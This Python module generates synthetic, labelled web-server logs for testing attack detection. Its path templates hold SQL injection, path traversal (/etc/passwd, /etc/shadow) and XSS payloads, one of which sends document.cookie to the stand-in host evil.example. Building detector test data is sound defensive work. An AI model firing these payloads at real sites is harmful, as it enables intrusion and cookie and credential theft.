"""Synthetic web-server request logs with a labelled share of attacks.

Normal traffic: browsers and a few benign bots on shop/blog/API paths, mostly 2xx/3xx.
Attacks, in four kinds: SQL injection, path traversal, cross-site scripting (each in plain
and URL-encoded spellings) and scanners (sqlmap, nikto, gobuster, ... probing `/.env`,
`/.git/config`, `wp-admin`). Some benign requests look a little odd on purpose (an
apostrophe in a search, a double dash in a slug, encoded spaces), so that no single
character gives the answer away.

Every random choice for a batch is drawn at once with numpy (one call per field, not per
event); only the final formatting of each event's strings is a Python loop. The same seed
gives the same events.
"""

from __future__ import annotations

import json
from typing import Any, NamedTuple

import numpy as np

KINDS = ("normal", "sqli", "traversal", "xss", "scanner")
ATTACK_KINDS = KINDS[1:]

METHODS = np.array(["GET", "POST", "PUT", "DELETE", "HEAD"])
METHOD_WEIGHTS = np.array([0.80, 0.13, 0.03, 0.01, 0.03])

BROWSERS = np.array(
    [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/17.4 Safari/605.1.15",
        "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 "
        "(KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.0.0 Mobile Safari/537.36",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "curl/8.5.0",
        "python-requests/2.31.0",
        "okhttp/4.12.0",
    ]
)
BROWSER_WEIGHTS = np.array([0.30, 0.18, 0.12, 0.15, 0.12, 0.05, 0.03, 0.03, 0.02])

SCANNERS = np.array(
    [
        "sqlmap/1.8.4#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)",
        "gobuster/3.6",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
        "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
        "Mozilla/5.0 zgrab/0.x",
    ]
)

# Normal paths; {n} is a number, {w} a search word, {s} a slug.
NORMAL_PATHS = (
    "/",
    "/index.html",
    "/products/{n}",
    "/products/{n}/reviews?page={p}",
    "/api/v1/users/{n}",
    "/api/v1/orders?page={p}&size=20",
    "/api/v1/items?sort=price&order=asc&category={n}",
    "/search?q={w}",
    "/search?q={w}+{w2}&page={p}",
    "/search?q={w}%20{w2}",
    "/static/js/app.{h}.js",
    "/static/css/site.{h}.css",
    "/images/{n}.png",
    "/login",
    "/cart",
    "/checkout?step={p}",
    "/blog/{s}",
    "/blog/{s}--{p}",
    "/account/settings",
    "/favicon.ico",
)
WORDS = (
    "shoes", "red+dress", "laptop", "o'neil", "rock'n'roll", "usb-c", "4k tv", "garden",
    "kids' toys", "coffee", "select+chair", "union+jack+flag", "script+writing",
)  # fmt: skip
SLUGS = ("spring-sale", "how-we-ship", "2024-review", "release-notes", "meet-the-team")

SQLI_PATHS = (
    "/products?id={n}' OR '1'='1",
    "/products?id={n}%27%20OR%201%3D1--",
    "/search?q=' UNION SELECT username,password FROM users--",
    "/search?q=%27+union+select+null,version()--+",
    "/api/v1/users/{n};DROP TABLE users",
    "/login?user=admin'--&pass=x",
    "/products?id={n} AND SLEEP(5)",
    "/items?id={n}%27%3B%20WAITFOR%20DELAY%20%270:0:5%27--",
)
TRAVERSAL_PATHS = (
    "/static/../../../../etc/passwd",
    "/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/images/..%2e%2e%2f..%2e%2e%2fwindows/win.ini",
    "/..;/..;/WEB-INF/web.xml",
    "/files?path=....//....//....//etc/shadow",
    "/static/%2e%2e/%2e%2e/%2e%2e/proc/self/environ",
)
XSS_PATHS = (
    "/search?q=<script>alert({n})</script>",
    "/search?q=%3Cscript%3Edocument.location%3D%27http://evil.example/%27%2Bdocument.cookie%3C/script%3E",
    "/comment?text=<img src=x onerror=alert({n})>",
    "/profile?name=<svg/onload=alert('xss')>",
    "/redirect?url=javascript:alert(document.cookie)",
    "/search?q=%3Csvg%20onload%3Dalert%28{n}%29%3E",
)
SCANNER_PATHS = (
    "/.env",
    "/.git/config",
    "/wp-admin/",
    "/wp-login.php",
    "/phpmyadmin/index.php",
    "/cgi-bin/test.cgi",
    "/admin.php",
    "/server-status",
    "/backup.sql",
    "/config.php.bak",
    "/",
    "/index.html",
    "/login",
)
ATTACK_PATHS = {
    "sqli": SQLI_PATHS,
    "traversal": TRAVERSAL_PATHS,
    "xss": XSS_PATHS,
    "scanner": SCANNER_PATHS,
}


class Traffic(NamedTuple):
    """Generated events and their truth: `labels[i]` is True when event i is an attack."""

    events: list[dict[str, Any]]
    labels: np.ndarray  # bool, one per event
    kinds: list[str]  # one of KINDS per event


def generate(
    n: int, seed: int = 0, attack_share: float = 0.1, start_id: int = 0, start_ms: int = 0
) -> Traffic:
    """`n` request events, about `attack_share` of them attacks; the same for the same seed.

    Ids are `r<start_id + i>`; `ts` is milliseconds since the epoch, increasing from
    `start_ms` (default 2024-01-01) by a few ms per event.
    """
    if not 0.0 <= attack_share <= 1.0:
        raise ValueError(f"attack_share={attack_share} must be between 0 and 1")
    rng = np.random.default_rng(seed)
    attack = rng.random(n) < attack_share
    kind_index = np.where(attack, rng.integers(1, len(KINDS), n), 0)

    # One draw per field for the whole batch.
    numbers = rng.integers(1, 100_000, n)
    pages = rng.integers(1, 40, n)
    word_a, word_b = rng.integers(0, len(WORDS), n), rng.integers(0, len(WORDS), n)
    slugs = rng.integers(0, len(SLUGS), n)
    hashes = rng.integers(0, 2**32, n)
    template = rng.random(n)  # picks a path template within the event's kind
    methods = METHODS[rng.choice(len(METHODS), n, p=METHOD_WEIGHTS)]
    agents = BROWSERS[rng.choice(len(BROWSERS), n, p=BROWSER_WEIGHTS)]
    scanner_agents = SCANNERS[rng.integers(0, len(SCANNERS), n)]
    # Scanners announce themselves; a quarter of the other attacks come from sqlmap/nikto too.
    use_scanner_ua = (kind_index == 4) | (attack & (rng.random(n) < 0.25))
    agents = np.where(use_scanner_ua, scanner_agents, agents)
    methods = np.where(kind_index == 4, "GET", methods)
    ips = _ips(rng, n, attack)
    status, size = _responses(rng, n, kind_index)
    gaps = rng.integers(0, 8, n)
    stamps = (start_ms or 1_704_067_200_000) + np.cumsum(gaps)

    events: list[dict[str, Any]] = []
    kinds: list[str] = []
    for i in range(n):
        kind = KINDS[kind_index[i]]
        templates = ATTACK_PATHS[kind] if kind != "normal" else NORMAL_PATHS
        path = templates[int(template[i] * len(templates))]
        if "{" in path:
            path = path.format(
                n=numbers[i],
                p=pages[i],
                w=WORDS[word_a[i]],
                w2=WORDS[word_b[i]],
                s=SLUGS[slugs[i]],
                h=f"{hashes[i]:08x}",
            )
        events.append(
            {
                "id": f"r{start_id + i}",
                "ip": ips[i],
                "method": str(methods[i]),
                "path": path,
                "status": int(status[i]),
                "bytes": int(size[i]),
                "user_agent": str(agents[i]),
                "ts": int(stamps[i]),
            }
        )
        kinds.append(kind)
    return Traffic(events, attack, kinds)


def _ips(rng: np.random.Generator, n: int, attack: np.ndarray) -> list[str]:
    """Clients from a pool of 2,000 addresses; attackers from a small pool of 40."""
    octets = rng.integers(1, 255, (2040, 4))
    pool = [f"{a}.{b}.{c}.{d}" for a, b, c, d in octets.tolist()]
    pick = np.where(attack, rng.integers(2000, 2040, n), rng.integers(0, 2000, n))
    return [pool[i] for i in pick.tolist()]


def _responses(
    rng: np.random.Generator, n: int, kind_index: np.ndarray
) -> tuple[np.ndarray, np.ndarray]:
    """Status codes and body sizes: normal requests mostly 200/304, attacks often 4xx/5xx."""
    normal_status = rng.choice([200, 304, 301, 404, 500], n, p=[0.88, 0.06, 0.02, 0.035, 0.005])
    attack_status = rng.choice([200, 400, 403, 404, 500], n, p=[0.25, 0.15, 0.2, 0.3, 0.1])
    status = np.where(kind_index == 0, normal_status, attack_status)
    size = rng.lognormal(8.5, 1.2, n).astype(np.int64)  # median about 5 KB
    size = np.where(status == 304, 0, size)
    size = np.where(status >= 400, rng.integers(150, 1200, n), size)
    return status, size


def encode(event: dict[str, Any]) -> bytes:
    """An event as the producer sends it: compact UTF-8 JSON."""
    return json.dumps(event, separators=(",", ":"), ensure_ascii=False).encode()
